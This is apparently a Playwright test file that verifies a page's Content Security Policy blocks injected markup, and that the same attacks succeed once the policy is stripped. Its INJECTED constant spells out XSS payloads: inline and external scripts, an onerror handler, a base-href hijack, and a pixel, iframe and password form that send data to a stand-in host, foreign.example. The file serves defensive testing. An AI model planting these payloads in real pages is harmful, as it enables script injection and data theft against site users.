import type { BrowserContext, Page, Route } from '@playwright/test'
import type { PageOpener } from './support/open-page.ts'
import { serverAnswer } from './support/server-answer.ts'
import { expect, test } from './support/test.ts'

const FOREIGN = 'https://foreign.example'

/** What an attacker would write into the page, if some text of it were taken for markup. */
const INJECTED = `
  <base href="${FOREIGN}/">
  <script>attack.ran.push('inline script')</script>
  <script src="${FOREIGN}/script.js"></script>
  <img src="/no-such-picture.png" onerror="attack.ran.push('handler')">
  <img src="${FOREIGN}/pixel.png?stolen=words">
  <iframe src="${FOREIGN}/frame"></iframe>
  <form id="form" method="post" action="${FOREIGN}/form"><input name="password" value="words"></form>`

/** Which directive of the policy each of the attacks breaks. */
const BROKEN = [
  'base-uri',
  'connect-src',
  'form-action',
  'frame-src',
  'img-src',
  'script-src-attr',
  'script-src-elem',
] as const

interface Attack {
  /** Programs of the attacker that the page has run. */
  readonly ran: string[]
  /** Directives that stopped something. */
  readonly stopped: string[]
}

declare global {
  var attack: Attack
}

/** The page with the attacks in it; `reached` fills with what arrives at the attacker. */
async function openAttacked(
  openPage: PageOpener,
  changed: (headers: Record<string, string>) => Record<string, string>,
) {
  const reached: string[] = []
  const page = await openPage({
    path: '/about',
    expectedErrors: /./,
    prepare: async (opened) => {
      await opened.addInitScript(() => {
        globalThis.attack = { ran: [], stopped: [] }
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          globalThis.attack.stopped.push(effectiveDirective)
        })
      })
      await beForeign(opened.context(), reached)
      await opened.route('**/about', (route) => inject(route, changed))
    },
  })
  return { page, reached }
}

async function inject(route: Route, changed: (headers: Record<string, string>) => Record<string, string>) {
  const response = await serverAnswer(route)
  const body = (await response.text()).replace('</body>', `${INJECTED}</body>`)
  await route.fulfill({ status: response.status(), headers: changed(response.headers()), body })
}

async function beForeign(context: BrowserContext, reached: string[]): Promise<void> {
  await context.route(`${FOREIGN}/**`, (route) => {
    const { pathname } = new URL(route.request().url())
    reached.push(pathname)
    const isScript = pathname.endsWith('.js')
    return route.fulfill({
      contentType: isScript ? 'text/javascript' : 'text/html',
      headers: { 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin' },
      body: isScript ? "attack.ran.push('foreign script')" : '',
    })
  })
}

/** Sends what a program in the page would, and last the form, which would leave the page. */
async function sendAway(page: Page): Promise<void> {
  await page.evaluate((foreign) => fetch(`${foreign}/words`).catch(() => undefined), FOREIGN)
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#form')?.submit())
}

test('API-17 (C104) in a browser the policy of the page stops every kind of injected program and every way out', async ({
  openPage,
}) => {
  const { page, reached } = await openAttacked(openPage, (headers) => headers)
  await sendAway(page)

  await expect.poll(() => page.evaluate(() => [...new Set(globalThis.attack.stopped)].sort())).toEqual(BROKEN)
  await expect.poll(() => page.evaluate(() => globalThis.attack.ran)).toEqual([])
  await expect.poll(() => page.evaluate(() => new URL(document.baseURI).origin === location.origin)).toBe(true)
  expect(reached).toEqual([])
})

test('API-17 (C104) without the policy the same attacks succeed, so that the test above proves something', async ({
  openPage,
}) => {
  const { page, reached } = await openAttacked(openPage, ({ 'content-security-policy': _, ...others }) => others)

  await expect
    .poll(() => page.evaluate(() => globalThis.attack.ran.toSorted()))
    .toEqual(['foreign script', 'handler', 'inline script'])
  await expect.poll(() => page.evaluate(() => document.baseURI)).toBe(`${FOREIGN}/`)
  await sendAway(page)
  await expect
    .poll(() => reached.toSorted())
    .toEqual(expect.arrayContaining(['/form', '/frame', '/pixel.png', '/script.js', '/words']))
})
